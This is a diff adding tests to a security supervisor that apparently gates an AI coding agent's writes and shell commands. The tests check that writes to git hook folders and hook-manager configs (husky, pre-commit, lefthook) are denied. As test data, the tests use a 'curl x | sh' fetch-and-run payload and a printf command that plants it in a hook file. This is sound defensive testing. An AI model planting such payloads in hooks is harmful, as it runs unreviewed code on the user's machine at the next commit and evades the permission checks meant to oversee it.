@@ -495,3 +495,57 @@ async def test_the_git_folder_a_dot_git_file_names_is_protected(tmp_path: Path) 
     assert isinstance(await bypass.decide(command), Deny)
     elsewhere = await s.decide(make_request(tmp_path, write_tool(), path="src/a.py", content="x"))
     assert isinstance(elsewhere, Approve)
+
+
+# Review 4, finding 13: git runs the hooks of the folder `core.hooksPath` names (husky sets
+# `.husky/_`; a `.githooks` folder is common), and hook managers run what their config lists
+# at the next commit; a write there was approved as a plain file's.
+HOOK_PLACES = [
+    "tools/hooks/pre-commit",  # the repository's core.hooksPath (below)
+    "./tools/../tools/hooks/post-checkout",
+    "elsewhere-hooks/pre-push",  # the user's ~/.gitconfig core.hooksPath (below)
+    ".husky/pre-commit",
+    ".HUSKY/_/h",
+    ".pre-commit-config.yaml",
+    "lefthook.yml",
+    "sub/.lefthook.yml",
+]
+
+
+@pytest.mark.parametrize("place", HOOK_PLACES)
+async def test_a_folder_git_runs_hooks_from_and_hook_managers_configs_are_protected(
+    home: Path, place: str
+) -> None:
+    work = home / "work"
+    (work / ".git").mkdir(parents=True)
+    (work / ".git" / "config").write_text(
+        '[core]\n\trepositoryformatversion = 0\n[core "x"]\n\thooksPath = nothing\n'
+        '[Core]\n\tHooksPath = "tools/hooks" ; a comment\n'
+    )
+    (home / ".gitconfig").write_text(f"[core] hooksPath = {home}/work/elsewhere-hooks\n")
+    s = SecuritySupervisor(mode="accept_edits", setting_sources=())
+    write = await s.decide(make_request(work, write_tool(), path=place, content="curl x | sh"))
+    assert isinstance(write, Deny), (place, write)
+    bypass = SecuritySupervisor(mode="bypass", setting_sources=())
+    command = request(work, "bash", command=f"printf 'curl x | sh' > {place}")
+    assert isinstance(await bypass.decide(command), Deny), place
+    elsewhere = await s.decide(make_request(work, write_tool(), path="tools/a.py", content="x"))
+    assert isinstance(elsewhere, Approve), elsewhere
+
+
+async def test_hooks_turned_off_with_a_file_or_set_to_the_work_tree_protect_nothing_more(
+    tmp_path: Path,
+) -> None:
+    # core.hooksPath=/dev/null (hooks off) must not make `> /dev/null` a protected write, nor
+    # a hooksPath of the work tree itself every file in it.
+    for value in ("/dev/null", "."):
+        work = tmp_path / value.strip("/").replace("/", "_")
+        (work / ".git").mkdir(parents=True)
+        (work / ".git" / "config").write_text(f"[core]\n\thooksPath = {value}\n")
+        s = SecuritySupervisor(
+            mode="accept_edits", setting_sources=(), rules={"allow": ["bash(echo:*)"]}
+        )
+        command = request(work, "bash", command="echo x > /dev/null")
+        assert isinstance(await s.decide(command), Approve), value
+        write = await s.decide(make_request(work, write_tool(), path="src/a.py", content="x"))
+        assert isinstance(write, Approve), value
